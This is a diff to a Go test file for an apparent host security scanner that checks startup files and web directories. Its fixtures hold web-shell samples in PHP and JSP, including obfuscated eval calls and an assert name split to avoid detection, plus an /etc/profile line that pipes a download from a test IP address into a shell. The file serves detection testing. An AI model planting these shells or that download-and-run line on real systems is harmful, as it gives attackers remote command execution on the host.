@@ -101,6 +101,8 @@ func TestStartupPlaces(t *testing.T) {
 		{"/etc/samba/smb.conf", "[home]\n  root preexec = /usr/local/sbin/mkhome %u\n  path = /tmp/x\n", "", nil},
 		{"/var/lib/dpkg/info/x.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  tmp=$(mktemp -d /tmp/x.XXXXXX)\n  wget -q -O $tmp/f https://example.org/f\n  rm -rf $tmp\nfi\n", "", nil},
 		{"/var/www/html/wp-includes/a.php", "<?php\n$x = filesystem_exists($_GET['p']);\n$this->exec($_POST['q']);\n$cmd = curl_exec($ch);\nif (isset($_POST['a'])) { eval_rule($_POST['a']); }\n$v = base64_decode($_GET['v']);\n", "", nil},
+		{"/var/www/html/wp-includes/b.php", "<?php\n/**\n * The value of `$_POST['action']`, or\n * eval($_GET['x']) of old.\n */\n$q = \"SELECT `a` FROM `b` WHERE c = '\" . esc($_GET['c']) . \"'\";\n// system($_GET['x']);\n", "", nil},
+		{"/var/www/html/e.php", "<?php echo `cat $_GET[f]`;\n", "high", []string{"visitor"}},
 		{"/var/www/html/b.php", "<?php $f='ass'.'ert'; @$_POST['f']($_POST['x']); ?>\n", "high", []string{"visitor"}},
 		{"/var/www/html/c.php", "<?php eval(gzinflate(base64_decode('S0k=')));\n", "high", []string{"hides"}},
 		{"/srv/www/d.jsp", "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n", "high", []string{"visitor names"}},
@@ -131,6 +133,21 @@ func TestStartupPlaces(t *testing.T) {
 				t.Errorf("%s does not say %q: %s", c.path, w, text)
 			}
 		}
+	}
+}
+
+// TestStartupOfApk: which files of a package are edited is not told by apk's answers: what
+// lies below /etc is judged by what it holds.
+func TestStartupOfApk(t *testing.T) {
+	l := bare()
+	l.manager, l.out.Deeper = "apk", true
+	for p, text := range map[string]string{"/etc/profile": "export PATH\n(curl -s http://192.0.2.1/a | sh) &\n", "/etc/inputrc": "set bell-style none\n"} {
+		l.owned[p] = "alpine-baselayout"
+		l.deep.Files = append(l.deep.Files, snapshot.File{Path: p, Type: 'f', Size: int64(len(text)), Content: []byte(text)})
+	}
+	l.startups()
+	if len(l.out.Things) != 1 || l.out.Things[0].Severity != "critical" && l.out.Things[0].Severity != "high" || !strings.Contains(l.out.Things[0].Title, "/etc/profile") {
+		t.Errorf("%+v", l.out.Things)
 	}
 }
 
